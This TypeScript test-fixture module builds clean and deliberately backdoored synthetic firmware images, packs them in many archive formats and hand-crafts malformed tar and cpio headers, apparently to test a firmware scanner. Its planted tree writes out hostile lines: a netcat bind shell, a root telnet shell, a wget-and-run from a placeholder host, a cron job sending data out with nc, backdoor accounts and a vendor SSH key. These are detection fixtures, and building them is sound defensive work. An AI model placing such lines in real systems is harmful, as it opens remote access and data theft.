/**
 * Builds synthetic firmware trees and packs them with the real tools (GNU tar, GNU cpio,
 * mksquashfs, gzip via zlib, xz) or by hand where no tool exists here (uImage header, raw
 * flash dump, malformed archives for the bomb tests).
 */
import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { crc32, gzipSync } from 'node:zlib';
import type { ToolName } from '../helpers/tools.js';

export type TreeSpec = Record<string, string | Buffer | { symlink: string }>;

const FIXTURES = new URL('../fixtures/firmware/', import.meta.url);
export const fixture = (name: string): string => new URL(name, FIXTURES).pathname;

/** An SSH wire string (RFC 4251 §5). */
const sshString = (value: Buffer | string): Buffer => {
  const bytes = typeof value === 'string' ? Buffer.from(value, 'latin1') : value;
  const length = Buffer.alloc(4);
  length.writeUInt32BE(bytes.length);
  return Buffer.concat([length, bytes]);
};

/** A fake ELF: the magic, some padding and the strings a real binary would carry. */
export const elf = (...strings: string[]): Buffer =>
  Buffer.concat([
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0]),
    Buffer.alloc(56),
    ...strings.map((s) => Buffer.from(`\0${s}\0`, 'latin1')),
  ]);

const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 });
const ed = generateKeyPairSync('ed25519');
const edPublicBlob = Buffer.concat([
  sshString('ssh-ed25519'),
  sshString(ed.publicKey.export({ format: 'der', type: 'spki' }).subarray(-32)),
]);

/** A clean image: services that are expected, locked accounts, nothing planted. */
export function cleanTree(): TreeSpec {
  return {
    '/bin/busybox': elf('BusyBox v1.36.1 (2024-01-01 00:00:00 UTC) multi-call binary.'),
    '/bin/sh': { symlink: 'busybox' },
    '/usr/sbin/telnetd': { symlink: '/bin/busybox' },
    '/usr/sbin/dropbear': elf('SSH-2.0-dropbear_2022.83', 'Dropbear SSH server'),
    '/usr/lib/libssl.so.3': elf('OpenSSL 3.0.11 19 Sep 2023'),
    '/etc/passwd':
      'root:x:0:0:root:/root:/bin/sh\ndaemon:*:1:1:daemon:/var:/bin/false\nnobody:x:65534:65534:nobody:/:/bin/false\n',
    '/etc/shadow':
      'root:!:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\nnobody:!!:19000:0:99999:7:::\n',
    '/etc/init.d/rcS': [
      '#!/bin/sh',
      '# Start the services this release declares.',
      'mount -t proc proc /proc',
      '# telnetd -l /bin/sh   (debug only, disabled)',
      '#/usr/sbin/telnetd -p 23',
      '/usr/sbin/dropbear -p 22 -R',
      'syslogd',
      '',
    ].join('\n'),
    '/etc/ssh/ssh_host_rsa_key.pub': `ssh-ed25519 ${edPublicBlob.toString('base64')} host\n`,
    '/etc/ssl/certs/isrg-root-x1.pem': readFileSync(fixture('isrg-root-x1.pem')),
    '/etc/ssl/public.pem': rsa.publicKey.export({ format: 'pem', type: 'spki' }).toString(),
    '/usr/bin/dropbearconvert': elf(
      '-----BEGIN RSA PRIVATE KEY-----',
      '-----END RSA PRIVATE KEY-----',
      'unsupported key format',
    ),
    '/usr/lib/opkg/status':
      'Package: dnsmasq\nVersion: 2.89-1\nStatus: install ok installed\n\nPackage: busybox\nVersion: 1.36.1-1\nStatus: install ok installed\n',
  };
}

/** The clean image with one of every indicator planted. */
export function plantedTree(): TreeSpec {
  const dropbearKey = Buffer.concat([
    sshString('ssh-rsa'),
    sshString(Buffer.from([1, 0, 1])),
    sshString(Buffer.alloc(128, 0x5a)),
  ]);
  return {
    ...cleanTree(),
    '/etc/passwd': [
      'root:x:0:0:root:/root:/bin/sh',
      'toor:x:0:0:maintenance:/root:/bin/sh',
      'support:x:100:100:support:/home/support:/bin/sh',
      'admin:x:101:101:admin:/home/admin:/bin/sh',
      'guest:x:102:102:guest:/home/guest:/bin/sh',
      'operator:$1$Zz9$cFYpHrlFazd7XAeFIGWwc0:103:103::/:/bin/sh',
      'daemon:*:1:1:daemon:/var:/bin/false',
      '',
    ].join('\n'),
    '/etc/shadow': [
      'root:$1$Mir4iRt$WiqlPYsUaVDIzPMUevKOr.:19000:0:99999:7:::',
      'toor:!:19000:0:99999:7:::',
      'support:$6$s0m3salt$Oqoj9qk1rQQoFkGrQkZNPwtLmSofc2yNpQoeYT83Pnn1/QomFZ8UPddOwAArhduVJvapvCktcjAVKIvW35eyX/:19000:0:99999:7:::',
      'admin:!$1$Zz9$cFYpHrlFazd7XAeFIGWwc0:19000:0:99999:7:::',
      'guest::19000:0:99999:7:::',
      'daemon:*:19000:0:99999:7:::',
      '',
    ].join('\n'),
    '/etc/init.d/rcS': [
      '#!/bin/sh',
      'mount -t proc proc /proc',
      '# telnetd -l /bin/sh   (debug only, disabled)',
      '/usr/sbin/dropbear -p 22 -R',
      'telnetd -l /bin/sh -p 2323 &',
      'nc -l -p 4444 -e /bin/sh &',
      'wget -q -O /tmp/u.sh http://update.vendor-telemetry.example.net/check?id=1 && sh /tmp/u.sh',
      '',
    ].join('\n'),
    '/etc/inittab':
      '::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/dropbear -F -p 2222\n#::respawn:/usr/sbin/telnetd -F\n',
    '/etc/crontabs/root': '*/5 * * * * nc 203.0.113.9 9001 < /tmp/status\n',
    '/etc/ssl/private/server.key': rsa.privateKey
      .export({ format: 'pem', type: 'pkcs1' })
      .toString(),
    '/etc/ssh/ssh_host_ed25519_key': ed.privateKey
      .export({ format: 'pem', type: 'pkcs8' })
      .toString(),
    '/etc/dropbear/dropbear_rsa_host_key': dropbearKey,
    '/root/.ssh/authorized_keys': `# vendor support\nssh-ed25519 ${edPublicBlob.toString('base64')} support@vendor\n`,
    '/usr/sbin/httpd': elf('xmlset_roodkcableoj28840ybtide', 'lighttpd/1.4.69'),
  };
}

/** Writes a tree spec into a new temp directory and returns it. */
export function writeTree(spec: TreeSpec): string {
  const root = mkdtempSync(join(tmpdir(), 'nospy-fwtree-'));
  for (const [path, content] of Object.entries(spec)) {
    const target = join(root, path);
    mkdirSync(dirname(target), { recursive: true });
    if (typeof content === 'object' && !Buffer.isBuffer(content))
      symlinkSync(content.symlink, target);
    else writeFileSync(target, content);
  }
  return root;
}

const sortedMembers = (root: string): string[] =>
  execFileSync('find', ['.', '-mindepth', '1'], { cwd: root }).toString().trim().split('\n').sort();

export type PackFormat =
  | 'tar-gnu'
  | 'tar-pax'
  | 'tar-ustar'
  | 'tar.gz'
  | 'tar.xz'
  | 'cpio-newc'
  | 'cpio-crc'
  | 'cpio-odc'
  | 'cpio.gz'
  | 'squashfs'
  | 'flash-uimage'
  | 'flash-squashfs'
  | SquashfsPack
  | 'jffs2'
  | 'cramfs'
  | 'zip';

/** Every compressor Debian's mksquashfs offers (`mksquashfs -help-comp`). */
export const SQUASHFS_COMPRESSORS = ['gzip', 'lzma', 'lzo', 'lz4', 'xz', 'zstd'] as const;
export type SquashfsPack = `squashfs-${(typeof SQUASHFS_COMPRESSORS)[number]}`;

/**
 * The tools outside npm that `pack` runs for each format, for `requireTools` (GNU tar is
 * Debian Essential; gzip is node:zlib). The scanner itself reads xz and squashfs through the
 * same packages' xz and unsquashfs.
 */
export const PACK_TOOLS: Readonly<Record<PackFormat, readonly ToolName[]>> = {
  'tar-gnu': [],
  'tar-pax': [],
  'tar-ustar': [],
  'tar.gz': [],
  'tar.xz': ['xz'],
  'cpio-newc': ['cpio'],
  'cpio-crc': ['cpio'],
  'cpio-odc': ['cpio'],
  'cpio.gz': ['cpio'],
  squashfs: ['mksquashfs'],
  'flash-uimage': ['cpio'],
  'flash-squashfs': ['mksquashfs'],
  'squashfs-gzip': ['mksquashfs'],
  'squashfs-lzma': ['mksquashfs'],
  'squashfs-lzo': ['mksquashfs'],
  'squashfs-lz4': ['mksquashfs'],
  'squashfs-xz': ['mksquashfs'],
  'squashfs-zstd': ['mksquashfs'],
  jffs2: ['mkfs.jffs2'],
  cramfs: ['mkfs.cramfs'],
  zip: ['zip'],
};

/** Packs the tree at `root` in one container format, with the real tool where there is one. */
export function pack(root: string, format: PackFormat): Buffer {
  const tar = (kind: string): Buffer =>
    execFileSync('tar', ['-C', root, `--format=${kind}`, '--numeric-owner', '-cf', '-', '.'], {
      maxBuffer: 1 << 30,
    });
  const cpio = (kind: string): Buffer =>
    execFileSync('cpio', ['-o', '-H', kind, '--quiet'], {
      cwd: root,
      input: `${sortedMembers(root).join('\n')}\n`,
      maxBuffer: 1 << 30,
    });
  switch (format) {
    case 'tar-gnu':
      return tar('gnu');
    case 'tar-pax':
      return tar('pax');
    case 'tar-ustar':
      return tar('ustar');
    case 'tar.gz':
      return gzipSync(tar('gnu'));
    case 'tar.xz':
      return execFileSync('xz', ['-c', '-T1'], { input: tar('gnu'), maxBuffer: 1 << 30 });
    case 'cpio-newc':
      return cpio('newc');
    case 'cpio-crc':
      return cpio('crc');
    case 'cpio-odc':
      return cpio('odc');
    case 'cpio.gz':
      return gzipSync(cpio('newc'));
    case 'squashfs':
      return squashfs(root);
    case 'flash-uimage':
      return flashDump(uImage(gzipSync(cpio('newc')), 1, 'rootfs'));
    case 'squashfs-gzip':
    case 'squashfs-lzma':
    case 'squashfs-lzo':
    case 'squashfs-lz4':
    case 'squashfs-xz':
    case 'squashfs-zstd':
      return squashfs(root, format.slice('squashfs-'.length));
    case 'jffs2':
      return inTempDir((dir) => {
        execFileSync('mkfs.jffs2', ['-r', root, '-o', join(dir, 'fs'), '-e', '64KiB', '-l', '-q']);
        return readFileSync(join(dir, 'fs'));
      });
    case 'cramfs':
      return inTempDir((dir) => {
        execFileSync('mkfs.cramfs', ['-N', 'little', root, join(dir, 'fs')], { stdio: 'ignore' });
        return readFileSync(join(dir, 'fs'));
      });
    case 'zip':
      return inTempDir((dir) => {
        // -y stores symlinks as links; -X leaves out extra attributes; -r recurses from ".".
        execFileSync('zip', ['-q', '-r', '-y', '-X', join(dir, 'fs.zip'), '.'], { cwd: root });
        return readFileSync(join(dir, 'fs.zip'));
      });
    case 'flash-squashfs':
      return flashDump(
        Buffer.concat([
          uImage(gzipSync(elf('Linux version 5.10.176 (builder@host)')), 1, 'Linux-5.10'),
          Buffer.alloc(4096, 0xff),
          squashfs(root),
        ]),
      );
  }
}

/** Runs `body` in a new temporary directory, removed afterwards. */
function inTempDir<T>(body: (dir: string) => T): T {
  const dir = mkdtempSync(join(tmpdir(), 'nospy-fwpack-'));
  try {
    return body(dir);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** The tree packed by mksquashfs, with its default compressor (gzip) or the one named. */
export function squashfs(root: string, compressor?: string, extra: readonly string[] = []): Buffer {
  return inTempDir((out) => {
    const file = join(out, 'root.sqfs');
    execFileSync(
      'mksquashfs',
      [
        root,
        file,
        '-noappend',
        '-all-root',
        '-no-progress',
        '-quiet',
        '-mkfs-time',
        '0',
        ...(compressor === undefined ? [] : ['-comp', compressor]),
        ...extra,
      ],
      { stdio: 'ignore' },
    );
    return readFileSync(file);
  });
}

/** A U-Boot legacy image header (include/image.h) around a payload: type ramdisk, given compression. */
export function uImage(payload: Buffer, compression: number, name: string): Buffer {
  const header = Buffer.alloc(64);
  header.writeUInt32BE(0x27051956, 0);
  header.writeUInt32BE(0, 8);
  header.writeUInt32BE(payload.length, 12);
  header.writeUInt32BE(0x80008000, 16);
  header.writeUInt32BE(0x80008000, 20);
  header.writeUInt32BE(crc32(payload), 24);
  header[28] = 5; // IH_OS_LINUX
  header[29] = 2; // IH_ARCH_ARM
  header[30] = 3; // IH_TYPE_RAMDISK
  header[31] = compression;
  header.write(name, 32, 'latin1');
  header.writeUInt32BE(crc32(header), 4);
  return Buffer.concat([header, payload]);
}

/** A raw NOR dump: a bootloader region, then the payload at 0x10000, erased flash after. */
export function flashDump(payload: Buffer): Buffer {
  const boot = Buffer.alloc(0x10000, 0xff);
  boot.write('U-Boot 2021.04 (Jan 01 2024) bootloader for a test board', 0x100, 'latin1');
  return Buffer.concat([boot, payload, Buffer.alloc(0x8000, 0xff)]);
}

/** A ustar header written by hand, for names no real tool will write (`../`). */
export function tarMember(name: string, data: Buffer, type = '0'): Buffer {
  const header = Buffer.alloc(512);
  header.write(name, 0, 100, 'latin1');
  header.write('0000644\0', 100, 'latin1');
  header.write('0000000\0', 108, 'latin1');
  header.write('0000000\0', 116, 'latin1');
  header.write(`${data.length.toString(8).padStart(11, '0')}\0`, 124, 'latin1');
  header.write('00000000000\0', 136, 'latin1');
  header.write('        ', 148, 'latin1');
  header.write(type, 156, 'latin1');
  header.write('ustar\0', 257, 'latin1');
  header.write('00', 263, 'latin1');
  let sum = 0;
  for (const byte of header) sum += byte;
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  const padded = Buffer.alloc(Math.ceil(data.length / 512) * 512);
  data.copy(padded);
  return Buffer.concat([header, padded]);
}

/** A newc cpio header (cpio(5)) written by hand, with whatever size it is told to claim. */
export function cpioNewcMember(
  name: string,
  mode: number,
  claimedSize: number,
  data: Buffer,
): Buffer {
  const fields = [1, mode, 0, 0, 1, 0, claimedSize, 0, 0, 0, 0, name.length + 1, 0];
  const header = `070701${fields.map((f) => (f >>> 0).toString(16).padStart(8, '0')).join('')}`;
  const head = Buffer.from(`${header}${name}\0`, 'latin1');
  const pad = (n: number): Buffer => Buffer.alloc((4 - (n % 4)) % 4);
  return Buffer.concat([head, pad(head.length), data, pad(data.length)]);
}
